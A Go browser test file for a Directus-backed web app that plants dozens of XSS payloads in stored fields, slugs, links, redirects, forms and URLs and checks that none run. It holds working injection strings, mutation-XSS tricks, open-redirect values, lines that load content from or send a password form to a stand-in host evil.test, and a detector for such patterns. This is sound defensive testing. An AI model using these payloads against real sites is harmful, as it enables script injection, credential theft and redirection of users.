package browser_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"hutch/e2e/harness"
	"hutch/sandbox"
	"hutch/templates"
)

// payloads try to run something, to load something from elsewhere, or to make
// the page do what its author did not write. What runs sets window.__xss or
// opens a dialog.
var payloads = []string{
	`<script>window.__xss=1</script>`,
	`"><script>window.__xss=1</script>`,
	`'><script>window.__xss=1</script>`,
	`</title><script>window.__xss=1</script>`,
	`</textarea></template></noscript><script>window.__xss=1</script>`,
	`<ScRiPt >window.__xss=1</sCrIpT>`,
	`<scr<script>ipt>window.__xss=1</scr</script>ipt>`,
	`<script src=https://evil.test/x.js></script>`,
	`<script src="/static/hutch.js" onload="window.__xss=1"></script>`,
	`<img src=x onerror=window.__xss=1>`,
	`<img src="x" onerror="alert('__xss')">`,
	`<img/src=/static/none onerror=window.__xss=1//`,
	`" onmouseover="window.__xss=1" autofocus onfocus="window.__xss=1" x="`,
	`' onfocus='window.__xss=1' autofocus='`,
	`<img src=//evil.test/pixel.png alt=pixel>`,
	`<img srcset="https://evil.test/pixel.png 1x" alt=pixel>`,
	`<picture><source srcset="https://evil.test/a.png"><img src="https://evil.test/b.png" alt=""></picture>`,
	`<svg onload=window.__xss=1>`,
	`<svg><script>window.__xss=1</script></svg>`,
	`<svg><a xlink:href="javascript:window.__xss=1"><text y="20">press</text></a></svg>`,
	`<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s></svg>`,
	`<math><mi xlink:href="javascript:window.__xss=1">press</mi></math>`,
	`<body onload=window.__xss=1>`,
	`<details open ontoggle=window.__xss=1><summary>press</summary></details>`,
	`<video src=x onerror=window.__xss=1></video><audio src=x onerror=window.__xss=1></audio>`,
	`<input autofocus onfocus=window.__xss=1>`,
	`<a href="javascript:window.__xss=1">press</a>`,
	"<a href=\"java\tscript:window.__xss=1\">press</a><a href=\"&#106;avascript:window.__xss=1\">press</a>",
	`<a href="data:text/html,<script>window.__xss=1</script>">press</a>`,
	`javascript:window.__xss=1`,
	`javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+window.__xss=1//'>`,
	`<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
	`<iframe src="javascript:parent.__xss=1"></iframe><object data="javascript:window.__xss=1"></object><embed src="https://evil.test/x.swf">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.test/">`,
	`<base href="https://evil.test/">`,
	`<link rel="stylesheet" href="https://evil.test/x.css">`,
	`<style>@import "https://evil.test/x.css"; body { background: url(https://evil.test/x.png) }</style>`,
	`<p style="background:url(https://evil.test/x.png);position:fixed;inset:0">over everything</p>`,
	`<form action="https://evil.test/" id="signin"><input name="password"><button formaction="javascript:window.__xss=1">press</button></form>`,
	`<div hx-get="/blog" hx-trigger="load" hx-target="body">htmx</div>`,
	`<div hx-on:load="window.__xss=1" hx-on="load: window.__xss=1" data-hx-on:click="window.__xss=1" hx-trigger="load">htmx</div>`,
	`<div hx-vals="js:{x: window.__xss=1}" data-hx-post="/logout" hx-trigger="load">htmx</div>`,
	`{{1234*5678}} ${1234*5678} <%= 1234*5678 %> #{1234*5678} {{.Frame}}`,
	`<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>`,
	`<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__xss=1&gt;">`,
	`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.__xss=1 src>">`,
	"<img src=\"x` `<script>window.__xss=1</script>\"` `>",
	`<template><script>window.__xss=1</script></template><dialog open>press</dialog>`,
	`<form-field class="field"><template><img src=x onerror=window.__xss=1></template></form-field>`,
}

// field is one that editors can write, or members by Directus' own means.
type field struct {
	item string // its path in Directus' API
	name string
	page string // shows it
	html bool   // as HTML, or not at all; otherwise what was written can be read there
}

// written are all of them. The member is who is signed in.
func written(memberID string) []field {
	return []field{
		{"/items/global", "title", "/", false},
		{"/items/global", "description", "/", false},
		{"/items/pages/about", "title", "/pages/about", false},
		{"/items/pages/about", "content", "/pages/about", true},
		{"/items/posts/payloads", "title", "/blog/payloads", false},
		{"/items/posts/payloads", "title", "/blog", false},
		{"/items/posts/payloads", "content", "/blog/payloads", true},
		{"/items/authors/1", "name", "/blog/payloads", false},
		{"/items/authors/1", "name", "/blog", false},
		{"/items/posts/payloads", "teaser", "/blog", false},
		{"/items/navigation/1", "label", "/blog", false},
		{"/items/authors/1", "name", "/blog/authors/1", false},
		{"/items/authors/1", "bio", "/blog/authors/1", false},
		{"/items/authors/1", "slug", "/blog/authors/1", true}, // in addresses only
		{"/users/" + memberID, "first_name", "/profile", false},
		{"/users/" + memberID, "last_name", "/profile", false},
		{"/users/" + memberID, "title", "/profile", false},
		{"/users/" + memberID, "location", "/profile", false},
		{"/users/" + memberID, "description", "/profile", false},
		{"/users/" + memberID, "pronouns", "/profile", false},
		{"/users/" + memberID, "about_your_rabbits", "/profile", false},
	}
}

// stamp is a small screen: there is less to paint where nobody looks.
var stamp = harness.Screen{Width: 400, Height: 400, Scheme: "light"}

// Whatever editors, visitors and members write: nothing of it runs, and the
// browser has nothing to report.
func TestNothingForeignRuns(t *testing.T) {
	t.Run("stored", func(t *testing.T) { t.Parallel(); storedPayloads(t) })
	t.Run("slugs", func(t *testing.T) { t.Parallel(); payloadsAsSlugs(t) })
	t.Run("addresses", func(t *testing.T) { t.Parallel(); payloadsAsAddresses(t) })
	t.Run("typed", func(t *testing.T) { t.Parallel(); typedPayloads(t) })
	t.Run("asked for", func(t *testing.T) { t.Parallel(); payloadsInAddresses(t) })
}

// storedPayloads stand in every field: ours and those of the public lists.
func storedPayloads(t *testing.T) {
	up := harness.StartSandbox(t, sandbox.Options{Collections: harness.FieldOfEachKind(), AnyLength: true})
	b := harness.StartApp(t, up, nil).Browser(t, harness.Scripted)
	b.Tab.ShowOn(t, stamp)
	watchForScripts(t, b.Tab)
	b.SignIn(harness.Member)
	harness.FillFieldOfEachKind(t, up, b.App)
	up.NewPost(t, map[string]any{"slug": "payloads", "title": "Payloads", "author": 1, "publish_date": "2026-11-01"})
	memberID := memberID(t, up)
	fields := written(memberID)
	published := publicPayloads(t)
	if !harness.All() {
		published = published[:len(published)/16] // they are in no order; ours are all tried
	}
	all := batches(append(published, payloads...))
	t.Logf("%d batches", len(all))
	for _, batch := range all {
		together := strings.Join(batch, "\n")
		items := map[string]map[string]any{}
		for _, f := range fields {
			if items[f.item] == nil {
				items[f.item] = map[string]any{}
			}
			items[f.item][f.name] = together
		}
		// No words: a choice, which the session keeps and so Directus' column bounds.
		items["/users/"+memberID]["language"] = strings.ToValidUTF8(batch[0][:min(255, len(batch[0]))], "")
		for path, values := range items {
			if err := up.Admin.Patch(t.Context(), path, values); err != nil {
				t.Fatal(err)
			}
		}
		seen := ""
		for _, f := range fields {
			if f.page != seen {
				seen = f.page
				b.Open(f.page)
				mustBeHarmless(b, "stored", together)
			}
			shown := together
			if strings.HasPrefix(f.item, "/items/") {
				shown = templates.PlainText(together) // editors' markup is read, a member's is not
			}
			if !f.html && !strings.Contains(unspaced(everything(b)), unspaced(shown)) {
				b.T.Errorf("%s does not show what was written into %s of %s: %q", f.page, f.name, f.item, shown)
			}
		}
		showDescribedImage(b, together)
		showDescribedField(b, together)
	}
}

// unspaced is text without what an input of one line leaves out.
func unspaced(text string) string { return strings.Join(strings.Fields(text), "") }

// everything is all that can be read on the page, what stands in fields included.
func everything(b *harness.Browser) string {
	read := b.Text() + b.Doc.Find(".menu").Text()
	for _, input := range b.Doc.Find("main :is(input, textarea)").EachIter() {
		read += " " + harness.InputValue(input)
	}
	return read
}

// memberID is the id of the sandbox's member.
func memberID(t *testing.T, up harness.Upstream) string {
	t.Helper()
	var known []struct{ ID string }
	if err := up.Admin.Get(t.Context(), "/users", url.Values{"filter[email][_eq]": {harness.Member.Email}}, &known); err != nil || len(known) != 1 {
		t.Fatal(known, err)
	}
	return known[0].ID
}

// payloadsAsSlugs are posts whose address is the payload.
func payloadsAsSlugs(t *testing.T) {
	up := harness.StartSandbox(t, sandbox.Options{})
	b := harness.StartApp(t, up, nil).Browser(t, harness.Scripted)
	b.Tab.ShowOn(t, stamp)
	watchForScripts(t, b.Tab)
	harness.PostsAre()(t, up, b.App)
	slugs := inTurn(0, 3)
	for i, payload := range slugs {
		up.NewPost(t, map[string]any{"slug": payload, "title": payload, "content": payload, "author": 1, "publish_date": fmt.Sprintf("2026-%02d-01", i%12+1)})
		b.Open("/blog/" + url.PathEscape(payload))
		mustBeHarmless(b, "as a slug", payload)
	}
	for number := range len(slugs) / 12 {
		b.Open(fmt.Sprintf("/blog?page=%d", number+1))
		mustBeHarmless(b, "as a slug", "all of them")
	}
}

// payloadsAsAddresses are where links and redirects of editors lead, and the colour
// of the site.
func payloadsAsAddresses(t *testing.T) {
	up := harness.StartSandbox(t, sandbox.Options{})
	site := harness.StartApp(t, up, nil)
	b := site.Browser(t, harness.Scripted)
	b.Tab.ShowOn(t, stamp)
	watchForScripts(t, b.Tab)
	leading := slices.Concat(payloads, []string{
		"javascript:window.__xss=1", " javascript:window.__xss=1", "JaVaScRiPt:window.__xss=1", "java\tscript:window.__xss=1", "java\nscript:window.__xss=1", "\x01javascript:window.__xss=1", "javascript&colon;window.__xss=1",
		"javascript://hutch.test/%0awindow.__xss=1", "data:text/html,<script>window.__xss=1</script>", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)", "blob:x", "view-source:javascript:1", "//evil.test", `/\evil.test`, "/\t/evil.test", "https:evil.test", "feed:javascript:window.__xss=1",
	})
	links := []string{"/items/navigation/1", "/items/navigation/2", "/items/navigation/3", "/items/navigation/4", "/items/navigation/5"}
	for together := range slices.Chunk(leading, len(links)) {
		for i, payload := range together {
			if err := up.Admin.Patch(t.Context(), links[i], map[string]any{"label": "Link", "url": payload}); err != nil {
				t.Fatal(err)
			}
		}
		if err := up.Admin.Patch(t.Context(), "/items/global", map[string]any{"color": together[0]}); err != nil {
			t.Fatal(err)
		}
		b.Open("/blog")
		b.WantStatus(http.StatusOK)
		mustBeHarmless(b, "leading to", strings.Join(together, "\n"))
		for _, link := range b.Doc.Find(".menu a").EachIter() {
			leads := link.AttrOr("href", "")
			if local := strings.HasPrefix(leads, "/") && !strings.HasPrefix(leads, "//") && !strings.Contains(leads, `\`); !local && !strings.HasPrefix(leads, "https://") && !strings.HasPrefix(leads, "http://") {
				t.Errorf("one of %q is a link to %q", together, leads)
			}
		}
		if b.Doc.Find(`link[href^="/theme/"]`).Length() != 0 {
			t.Errorf("%q is a colour", together[0])
		}
	}
	for i, payload := range leading {
		from := fmt.Sprintf("/payload-%d", i)
		if err := up.Admin.Post(t.Context(), "/items/redirects", map[string]any{"url_from": from, "url_to": payload, "response_code": 301}, nil); err != nil {
			t.Fatal(err)
		}
		if res := b.Request(http.MethodGet, from, nil, nil); res.StatusCode != http.StatusNotFound {
			t.Errorf("redirecting to %q: %d", payload, res.StatusCode)
		}
		if i%8 != 0 && !harness.All() {
			continue // without a redirect, it is the page for any unknown address
		}
		b.Open(from)
		b.WantStatus(http.StatusNotFound)
		b.WantAt(from)
		mustBeHarmless(b, "redirecting to", payload)
	}
}

// showDescribedImage shows a post whose image has the payload for a description.
// The sandbox lets nobody describe an image anew.
func showDescribedImage(b *harness.Browser, payload string) {
	b.T.Helper()
	post, err := json.Marshal([]any{map[string]any{
		"slug": "p", "title": payload, "content": payload, "author": map[string]any{"name": payload},
		"image": map[string]any{"id": "5f0e1b52-2a0c-4c5e-9d1f-0b8a6f4e1a0b", "description": payload},
	}})
	if err != nil {
		b.T.Fatal(err)
	}
	b.App.Wire.BreakOn("GET /items/posts", func(w http.ResponseWriter, _ *http.Request) { harness.WriteJSON(w, string(post)) })
	defer b.App.Wire.Mend()
	b.Open("/blog/p")
	mustBeHarmless(b, "describing an image,", payload)
}

// showDescribedField shows a profile with a field that has the payload for
// everything that its maker could write. The sandbox lets nobody describe a field
// anew.
func showDescribedField(b *harness.Browser, payload string) {
	b.T.Helper()
	for _, readOnly := range []bool{false, true} {
		fields, err := json.Marshal([]any{map[string]any{"collection": "directus_users", "field": "pronouns", "type": "string", "schema": map[string]any{}, "meta": map[string]any{
			"note": payload, "readonly": readOnly, "translations": []any{map[string]any{"language": "en-US", "translation": payload}},
			"options": map[string]any{"choices": []any{map[string]any{"text": payload, "value": payload}}},
		}}})
		if err != nil {
			b.T.Fatal(err)
		}
		b.App.Wire.BreakOn("GET /fields/directus_users", func(w http.ResponseWriter, _ *http.Request) { harness.WriteJSON(w, string(fields)) })
		b.Open("/profile")
		b.App.Wire.Mend()
		if !strings.Contains(b.Text(), harness.Squeeze(payload)) {
			b.T.Errorf("the profile does not show what was written of its field: %q", payload)
		}
		mustBeHarmless(b, "describing a field,", payload)
	}
}

// typedPayloads stand in every field of every form that comes back with what was
// typed.
func typedPayloads(t *testing.T) {
	up := harness.StartSandbox(t, sandbox.Options{Collections: harness.FieldOfEachKind()})
	site := harness.StartApp(t, up, nil)
	harness.FillFieldOfEachKind(t, up, site)
	b := site.Browser(t, harness.Scripted)
	b.Tab.ShowOn(t, stamp)
	paths := []string{"/signup", "/signin", "/password/forgot", "/profile", "/profile/email", "/profile/delete"}
	for i, path := range paths {
		if path == "/profile" {
			b.SignIn(harness.Member)
		}
		b.Open(path)
		form := "#" + b.Doc.Find("main form:has(input:not([type=hidden], [type=file]))").AttrOr("id", "?")
		for _, payload := range inTurn(i, len(paths)) {
			fill := map[string]string{}
			for _, field := range b.Doc.Find(form).Find("[type=text], [type=email], [type=password], textarea").Not("[readonly]").EachIter() {
				typed := strings.ReplaceAll(payload, "\t", " ") // Tab goes on to the next field
				if most, err := strconv.Atoi(field.AttrOr("maxlength", "")); err == nil {
					typed = typed[:min(most, len(typed))]
				}
				fill[field.AttrOr("name", "")] = typed
			}
			if len(fill) == 0 {
				t.Fatalf("%s has nothing to type into", path)
			}
			b.Submit(form, fill)
			b.WantStatus(http.StatusUnprocessableEntity)
			mustBeHarmless(b, "typed", payload)
		}
	}
}

// inTurn are the payloads for one of several pages that treat all alike: each payload
// is tried on one of them, and in make test-all on every one.
func inTurn(page, pages int) (turn []string) {
	for i, payload := range payloads {
		if harness.All() || i%pages == page {
			turn = append(turn, payload)
		}
	}
	return turn
}

// payloadsInAddresses come with a link that somebody has sent.
func payloadsInAddresses(t *testing.T) {
	b := harness.StartApp(t, harness.StartSandbox(t, sandbox.Options{}), nil).Browser(t, harness.Scripted)
	b.Tab.ShowOn(t, stamp)
	for i, path := range []string{"/pages/", "/signin?redirectedFrom=", "/verify?token=", "/password/reset?token=", "/invite?token="} {
		for _, payload := range inTurn(i, 5) {
			if strings.HasSuffix(path, "/") {
				b.Open(path + url.PathEscape(payload))
			} else {
				b.Open(path + url.QueryEscape(payload))
			}
			mustBeHarmless(b, "asked for", payload)
		}
	}
}

// mustBeHarmless looks at what a payload has become. What the browser reports,
// dialogs included, is a failure anyway.
func mustBeHarmless(b *harness.Browser, how, payload string) {
	b.T.Helper()
	for _, harm := range harm(b.T, b.Tab) {
		b.T.Errorf("%s: %s %q: %s", b.Path, how, payload, harm)
	}
	if strings.Contains(b.Raw, fmt.Sprint(1234*5678)) {
		b.T.Errorf("%s: %s %q was worked out", b.Path, how, payload)
	}
}

// harm is what has run, or could, in the page, and whom it has asked.
func harm(t *testing.T, tab *harness.Tab) []string {
	t.Helper()
	found := harness.Ask[[]string](t, tab, harmful)
	for _, address := range tab.RequestsElsewhere() {
		found = append(found, "a request to "+address)
	}
	return found
}

// watchForScripts makes what public payloads do leave a trace, where Chromium
// itself would say nothing of it.
func watchForScripts(t *testing.T, tab *harness.Tab) {
	t.Helper()
	tab.RunFirst(t, `
		window.print = () => { window.__xss = "print" }
		addEventListener("securitypolicyviolation", event => { window.__xss = "refused: " + event.violatedDirective })
	`)
}

// A test that finds nothing must be able to: pages where something does run, or
// is kept from it only by the policy, are noticed.
func TestForeignCodeIsNoticed(t *testing.T) {
	t.Parallel()
	const policy = "default-src 'none'; script-src 'self'; img-src 'self'"
	for _, test := range []struct{ body, policy, noticed string }{
		{`<script>window.__xss=1</script>`, "", "it ran"},
		{`<img src=x onerror="prompt(1)">`, "", "a dialog opens: prompt"},
		{`<svg onload=alert(document.domain)>`, "", "a dialog opens: alert"},
		{`<script>print()</script>`, "", "it ran"},
		{`<script>throw "x"</script>`, "", "uncaught exception"},
		{`<img src=https://evil.test/x.png>`, "", "a request to https://evil.test/x.png"},
		{`<script>alert(1)</script>`, policy, "it ran"},
		{`<p onclick="alert(1)">x</p>`, policy, "a handler"},
		{`<a href=" java&#10;script:alert(1)">x</a>`, policy, "code in an address"},
		{`<p style="position:fixed">x</p>`, policy, "a style"},
		{`<template><iframe srcdoc=x></iframe></template><iframe srcdoc=x></iframe>`, policy, "there is <iframe"},
		{`<p>harmless</p><a href="/x">x</a>`, policy, ""},
	} {
		server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			if test.policy != "" {
				w.Header().Set("Content-Security-Policy", test.policy)
			}
			_, _ = io.WriteString(w, `<!doctype html><title>x</title><link rel=icon href="/icon">`+test.body)
		}))
		t.Cleanup(server.Close)
		tab := harness.NewTab(t, server.URL, "10.2.0.1", true)
		tab.Forgives = true
		watchForScripts(t, tab)
		tab.Open(t, server.URL+"/")
		var noticed string
		for deadline := time.Now().Add(harness.Patience); ; time.Sleep(10 * time.Millisecond) {
			tab.Mu.Lock()
			for _, f := range tab.Faults {
				noticed += f.Text + "\n"
			}
			tab.Faults = nil
			tab.Mu.Unlock()
			noticed += strings.Join(harm(t, tab), "\n") + "\n"
			loaded := harness.Ask[string](t, tab, `() => document.readyState`) == "complete"
			if test.noticed == "" && loaded || test.noticed != "" && strings.Contains(noticed, test.noticed) || time.Now().After(deadline) {
				break
			}
		}
		if test.noticed == "" && strings.TrimSpace(noticed) != "" || !strings.Contains(noticed, test.noticed) {
			t.Errorf("%s: noticed %q, want %q", test.body, noticed, test.noticed)
		}
	}
}

// harmful finds what runs, and what would run when pressed.
const harmful = `() => {
	const found = []
	const name = element => element.outerHTML.slice(0, 160)
	if (window.__xss !== undefined) found.push("it ran: " + window.__xss)
	for (const element of document.querySelectorAll("iframe, object, embed, base, style, math, meta[http-equiv], link[rel~=stylesheet]:not([href^='/static/'], [href^='/theme/']), script:not([src^='/static/'], head > [type='application/ld+json'])")) found.push("there is " + name(element))
	for (const root of [document, ...[...document.querySelectorAll("template")].map(template => template.content)]) for (const element of root.querySelectorAll("*")) for (const {name: attribute, value} of element.attributes) {
		const scheme = value.replace(/[\u0000-\u0020]/g, "").toLowerCase()
		if (/^on/i.test(attribute) || /hx-on/i.test(attribute)) found.push("a handler: " + name(element))
		if (attribute === "style") found.push("a style: " + name(element))
		if (/^(data-)?hx-/.test(attribute) && element.closest(".prose")) found.push("htmx in the content: " + name(element))
		if (/^(href|src|srcset|action|formaction|xlink:href|data|poster)$/.test(attribute) && /^(javascript|data|vbscript):/.test(scheme)) found.push("code in an address: " + name(element))
		if (/^(src|srcset|action|formaction|data|poster)$/.test(attribute) && /^(https?:)?\/\//.test(scheme)) found.push("an address elsewhere: " + name(element))
	}
	return found
}`
